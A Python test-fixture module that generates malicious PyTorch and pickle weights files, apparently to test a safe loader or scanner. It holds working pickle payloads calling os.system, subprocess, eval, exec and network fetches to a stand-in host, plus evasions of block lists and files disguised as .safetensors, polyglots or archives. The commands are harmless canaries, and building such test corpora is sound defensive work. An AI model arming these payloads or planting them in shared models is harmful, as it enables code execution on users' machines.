"""Weights files that want to run something. All are written here, byte by byte; none is kept anywhere.

Every command, file name and module in them holds `watch.TOKEN`; what they ask for is harmless even where it succeeds.
"""

import gzip
import io
import marshal
import pickle
import pickletools
import struct
import tarfile
import zipfile
from collections import OrderedDict
from collections.abc import Callable, Mapping
from dataclasses import dataclass
from typing import Any, Literal

import torch
from watch import TOKEN

COMMAND = f"touch {TOKEN}"
SOURCE = f"open({TOKEN!r}, 'w').close()"
Reader = Literal["torch", "pickle"]


@dataclass(frozen=True)
class Payload:
    """A file.

    Args:
        kind: what is special about it. content: its bytes. ending: of its name.
        reader: who would run it: torch's or Python's own unpickler; None where only a careless program would.
    """

    kind: str
    content: bytes
    ending: str = "pth"
    reader: Reader | None = "torch"


class Call:
    """Pickles to a call."""

    def __init__(self, function: Any, *arguments: Any) -> None:
        self.call = (function, arguments)

    def __reduce__(self) -> Any:
        return self.call


def payloads() -> list[Payload]:
    """Return all of them, each kind once, in a fixed order."""
    found = [
        *(Payload(f"calls {name}", _reduce(name, *arguments), reader="pickle") for name, arguments in _CALLS),
        *(Payload(f"system, protocol {number}", _system(number), reader="pickle") for number in range(6)),
        *(Payload(kind, content, reader="pickle") for kind, content in _OPCODES.items()),
        *(Payload(kind, make()) for kind, make in _TORCH.items()),
        *(Payload(kind, make(), ending, reader) for kind, ending, reader, make in _DISGUISES),
    ]
    assert len({payload.kind for payload in found}) == len(found)
    return found


def _text(value: str) -> bytes:
    return f"V{value}\n".encode()


def _reduce(name: str, *arguments: str | bytes) -> bytes:
    """Return ``name(*arguments)`` in protocol 0; an argument in bytes is pickle code that leaves one value."""
    module, _, attribute = name.rpartition(".")
    given = b"".join(one if isinstance(one, bytes) else _text(one) for one in arguments)
    return f"c{module}\n{attribute}\n(".encode() + given + b"tR."


def _system(protocol: int) -> bytes:
    import os

    return pickle.dumps({"model": Call(os.system, COMMAND)}, protocol)


def _bytes(value: bytes) -> bytes:
    return b"B" + struct.pack("<I", len(value)) + value


_CODE = marshal.dumps(compile(SOURCE, TOKEN, "exec"))
_CALLS: tuple[tuple[str, tuple[str | bytes, ...]], ...] = (
    ("posix.system", (COMMAND,)),
    ("os.system", (COMMAND,)),
    ("os.popen", (COMMAND,)),
    ("os.execv", ("/bin/true", b"(" + _text(TOKEN) + b"l")),
    ("os.remove", (f"/{TOKEN}",)),
    ("os.mkdir", (f"/{TOKEN}",)),
    ("os.rename", (f"/{TOKEN}", f"/{TOKEN}2")),
    ("subprocess.getoutput", (COMMAND,)),
    ("subprocess.check_output", (b"(Vtouch\n" + _text(TOKEN) + b"l",)),
    ("subprocess.Popen", (b"(Vtouch\n" + _text(TOKEN) + b"l",)),
    ("builtins.eval", (SOURCE,)),
    ("builtins.exec", (SOURCE,)),
    ("builtins.compile", (SOURCE, "x", "exec")),
    ("builtins.open", (f"/{TOKEN}", "w")),
    ("builtins.__import__", (TOKEN,)),
    ("io.FileIO", (f"/{TOKEN}", "w")),
    ("importlib.import_module", (TOKEN,)),
    ("pkgutil.resolve_name", (f"{TOKEN}:run",)),
    ("pydoc.locate", (TOKEN,)),
    ("marshal.loads", (_bytes(_CODE),)),
    ("pty.spawn", (TOKEN,)),
    ("shutil.rmtree", (f"/{TOKEN}",)),
    ("shutil.copyfile", ("/dev/null", f"/{TOKEN}")),
    ("timeit.timeit", (SOURCE,)),
    ("pdb.run", (SOURCE,)),
    ("ctypes.CDLL", (f"{TOKEN}.so",)),
    ("urllib.request.urlopen", (f"http://{TOKEN}.invalid",)),
    ("socket.create_connection", (b"(" + _text(f"{TOKEN}.invalid") + b"I80\nt",)),
    ("smtplib.SMTP", (f"{TOKEN}.invalid",)),
    ("torch.hub.load_state_dict_from_url", (f"http://{TOKEN}.invalid/x.pth",)),
    ("numpy.testing._private.utils.runstring", (SOURCE, b"}")),
    ("compressor.storage.write_text", (f"/{TOKEN}", TOKEN)),
)

# Ways to a call that a list of forbidden names would not see.
_PARTIAL = b"cfunctools\npartial\n(cos\nsystem\n" + _text(COMMAND) + b"tR"
_SYSTEM_BY_GETATTR = b"c__builtin__\ngetattr\n(c__builtin__\n__import__\n(Vos\ntRVsystem\ntR"
_OPCODES: Mapping[str, bytes] = {
    "partial that is called": _PARTIAL + b"(tR.",
    "set over a map": b"c__builtin__\nset\n(c__builtin__\nmap\n(cos\nsystem\n(" + _text(COMMAND) + b"ltRtR.",
    "chain of getattr": _SYSTEM_BY_GETATTR + b"(" + _text(COMMAND) + b"tR.",
    "attrgetter": b"coperator\nattrgetter\n(Vsystem\ntR(c__builtin__\n__import__\n(Vos\ntRtR("
    + _text(COMMAND)
    + b"tR.",
    "methodcaller": b"coperator\nmethodcaller\n(Vsystem\n"
    + _text(COMMAND)
    + b"tR(c__builtin__\n__import__\n(Vos\ntRtR.",
    "INST": b"(" + _text(COMMAND) + b"ios\nsystem\n.",
    "OBJ": b"(cos\nsystem\n" + _text(COMMAND) + b"o.",
    "NEWOBJ and BUILD": b"\x80\x02csubprocess\nPopen\n)\x81}"
    + _text("_x")
    + b"Nsb0cos\nsystem\n("
    + _text(COMMAND)
    + b"tR.",
    "STACK_GLOBAL": b"\x80\x04\x8c\x02os\x8c\x06system\x93" + b"(" + _text(COMMAND) + b"tR.",
    "dotted STACK_GLOBAL": b"\x80\x04\x8c\x09posixpath\x8c\x09os.system\x93(" + _text(COMMAND) + b"tR.",
    "name out of the memo": b"\x80\x04\x8c\x02os\x94\x8c\x06system\x940h\x00h\x01\x930"
    + b"h\x00h\x01\x93("
    + _text(COMMAND)
    + b"tR.",
    "BUILD with a state": b"\x80\x02ctypes\nSimpleNamespace\n)R}V__dict__\nNsb0cos\nsystem\n("
    + _text(COMMAND)
    + b"tR.",
    "framed": pickle.dumps(Call(eval, SOURCE), 4),
    "behind a sound object": b"}0" + _reduce("os.system", COMMAND),
    "two pickles": pickle.dumps(OrderedDict(a=1), 2)[:-1] + b"0" + _reduce("os.system", COMMAND),
    "marshalled function": b"ctypes\nFunctionType\n(cmarshal\nloads\n(" + _bytes(_CODE) + b"tR}tR(tR.",
    "optimised": pickletools.optimize(pickle.dumps(Call(exec, SOURCE), 4)),
}


def _saved(content: Any, *, zipped: bool = True) -> bytes:
    buffer = io.BytesIO()
    torch.save(content, buffer, _use_new_zipfile_serialization=zipped)
    return buffer.getvalue()


def _evil() -> Call:
    import os

    return Call(os.system, COMMAND)


def _state() -> dict[str, Any]:
    return {"model": {"weight": torch.ones(2, 2)}, "epoch": 3}


def _zip(records: Mapping[str, bytes], *, compressed: bool = False) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED if compressed else zipfile.ZIP_STORED) as archive:
        for name, data in records.items():
            archive.writestr(name, data)
    return buffer.getvalue()


def _archive(data: bytes, *, compressed: bool = False, root: str = "archive", **more: bytes) -> bytes:
    records = {f"{root}/data.pkl": data, f"{root}/version": b"3\n", f"{root}/byteorder": b"little"}
    return _zip(records | {f"{root}/{name}": value for name, value in more.items()}, compressed=compressed)


def _legacy(place: int) -> bytes:
    """Return torch's format before 1.6, a row of five pickles, with a call in the one at ``place``."""
    rows: list[Any] = [
        0x1950A86A20F9469CFC6C,
        1001,
        {"protocol_version": 1001, "little_endian": True, "type_sizes": {"short": 2, "int": 4, "long": 4}},
        OrderedDict(a=1),
        [],
    ]
    rows[place] = _evil()
    return b"".join(pickle.dumps(row, 2) for row in rows)


def _subclass() -> bytes:
    """Return a tensor of a type of its own, whose type is a call."""
    function = b"ctorch._tensor\n_rebuild_from_type_v2\n(cos\nsystem\n" + _text("x") + b"(" + _text(COMMAND) + b"t}tR."
    return _archive(function)


def _script() -> bytes:
    """Return the outline of a TorchScript archive: code that torch compiles."""
    code = f"class Run(Module):\n  def forward(self):\n    return {TOKEN}\n".encode()
    return _archive(_reduce("os.system", COMMAND), **{"constants.pkl": pickle.dumps(()), "code/run.py": code})


_TORCH: Mapping[str, Callable[[], bytes]] = {
    "zip, beside the weights": lambda: _saved(_state() | {"args": _evil()}),
    "zip, as a key": lambda: _archive(pickle.dumps({_evil(): 1}, 2)),
    "zip, as a tensor's hook": lambda: _saved(OrderedDict(weight=torch.ones(2), hooks=[_evil()])),
    "zip, partial": lambda: _archive(_OPCODES["partial that is called"]),
    "zip, deflated": lambda: _archive(_system(2), compressed=True),
    "zip, other root": lambda: _archive(_system(2), root="model"),
    "zip, INST": lambda: _archive(_OPCODES["INST"]),
    "zip, OBJ": lambda: _archive(_OPCODES["OBJ"]),
    "zip, STACK_GLOBAL": lambda: _archive(_OPCODES["STACK_GLOBAL"]),
    "zip, type of a tensor": _subclass,
    "legacy, magic number": lambda: _legacy(0),
    "legacy, protocol": lambda: _legacy(1),
    "legacy, system": lambda: _legacy(2),
    "legacy, object": lambda: _legacy(3),
    "legacy, beside the weights": lambda: _saved(_state() | {"args": _evil()}, zipped=False),
    "polyglot, pickle before a zip": lambda: _legacy(3) + _archive(pickle.dumps({}, 2)),
}


def _tar() -> bytes:
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w") as archive:
        for name in ("sys_info", "pickle", "storages", "tensors", f"../{TOKEN}"):
            info = tarfile.TarInfo(name)
            data = _system(2)
            info.size = len(data)
            archive.addfile(info, io.BytesIO(data))
    return buffer.getvalue()


def _behind_safetensors() -> bytes:
    import safetensors.torch

    return bytes(safetensors.torch.save({"a": torch.ones(2)})) + _archive(_system(2))


def _npy() -> bytes:
    import numpy

    buffer = io.BytesIO()
    numpy.save(buffer, numpy.array([_evil()], dtype=object), allow_pickle=True)
    return buffer.getvalue()


_DISGUISES: tuple[tuple[str, str, Reader | None, Callable[[], bytes]], ...] = (
    ("pickle named .safetensors", "safetensors", "pickle", lambda: _system(2)),
    ("protocol 0 named .safetensors", "safetensors", "pickle", lambda: _reduce("os.system", COMMAND)),
    ("zip named .safetensors", "safetensors", None, lambda: _saved(_state() | {"args": _evil()})),
    ("safetensors with a zip behind it", "safetensors", None, _behind_safetensors),
    ("safetensors with a zip behind it, named .pth", "pth", None, _behind_safetensors),
    ("pickle named .bin", "bin", "pickle", lambda: _system(2)),
    ("pickle named .pt", "pt", "pickle", lambda: _system(4)),
    ("pickle named .pth.tar", "pth.tar", "pickle", lambda: _system(4)),
    ("pickle named .pkl", "pkl", "pickle", lambda: _system(2)),
    ("pickle named .ckpt", "ckpt", "pickle", lambda: _system(2)),
    ("pickle without an ending", "", "pickle", lambda: _system(2)),
    ("tar of the first torch", "tar", None, _tar),
    ("zip in a zip", "pth", None, lambda: _zip({"archive/inner.pth": _archive(_system(2)), "archive/version": b"3"})),
    ("zip without a version", "pth", None, lambda: _zip({"archive/data.pkl": _system(2)})),
    ("TorchScript", "pt", None, _script),
    ("picture before a zip", "pth", None, lambda: b"GIF89a" + bytes(20) + _archive(_system(2))),
    ("gzip", "pth", None, lambda: gzip.compress(_system(2))),
    ("numpy objects", "bin", None, _npy),
    ("base64 of a pickle", "bin", None, lambda: __import__("base64").b64encode(_system(2))),
)
